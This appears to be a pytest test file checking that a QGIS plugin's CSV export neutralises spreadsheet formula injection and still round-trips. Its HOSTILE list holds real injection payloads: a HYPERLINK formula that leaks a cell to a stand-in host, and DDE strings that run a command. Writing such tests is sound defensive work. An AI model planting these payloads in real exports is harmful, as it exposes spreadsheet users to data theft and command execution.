"""Issue 16 item 11: the CSV export carries no spreadsheet formula, and still round-trips."""

from __future__ import annotations

import csv

from smartcity_plugin.io.csv_import import import_csv
from smartcity_plugin.io.exports import ExportRow, write_csv
from smartcity_plugin.io.importer import ImportOptions
from smartcity_plugin.io.records import FIELD_NAMES
from tests.fixtures.io_support import planner_without_projects, read_projects

HOSTILE = [
    '=HYPERLINK("http://127.0.0.1:9/?leak="&A1,"Click for details")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted once",
    "''@twice",
    "'plain apostrophe",
    "O'Neill & Partners",
]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def _row(index: int, text: str) -> ExportRow:
    values = {name: None for name in FIELD_NAMES}
    values.update(project_id=f"FORMULA-{index}", title=text, agency=text, partners=text, donor_country="KR",
                  recipient_country="VN", status="ongoing", finance_type="grant", source_title=text,
                  source_url="https://example.org/a", as_of="2026-11", amount_usd=-0.0 if index == 0 else 1500.5)
    return ExportRow(values, [(-77.5 if index == 1 else 106.7, 10.78)])


def test_csv_export_neutralises_formulas_and_round_trips(qgis_app, tmp_path):
    path = tmp_path / "projects.csv"
    write_csv(path, [_row(index, text) for index, text in enumerate(HOSTILE)])
    with path.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.reader(handle))
    for row in rows[2:]:
        for cell in row:
            if cell.startswith(TRIGGERS):
                float(cell)  # only a plain number may start with + or - (spreadsheets read it as a number)
    titles = [row[FIELD_NAMES.index("title")] for row in rows[2:]]
    assert titles[0].startswith("'=HYPERLINK")
    assert "-77.5" in rows[3]  # a negative coordinate stays a number
    target = planner_without_projects(tmp_path / "planner.gpkg")
    import_csv(path, target, options=ImportOptions(import_date="2026-12-01"))
    stored = {key: values for key, (values, _points) in read_projects(target).items()}
    for index, text in enumerate(HOSTILE):
        values = stored[f"FORMULA-{index}"]
        expected = text.strip()  # the importer trims every cell (a leading tab or CR included)
        assert (values["title"], values["agency"], values["partners"], values["source_title"]) == (expected,) * 4


def test_neutralise_and_restore_are_inverse():
    from smartcity_plugin.io.spreadsheet_safe import neutralise, restore

    for text in [*HOSTILE, "", "'", "''", "-77.5", "+1e3", ".5", "'-77.5", "=", "'" * 3 + "=x", "'-5", "-"]:
        assert restore(neutralise(text)) == text, text
        assert not neutralise(text).startswith(TRIGGERS) or neutralise(text) in ("-77.5", "+1e3")
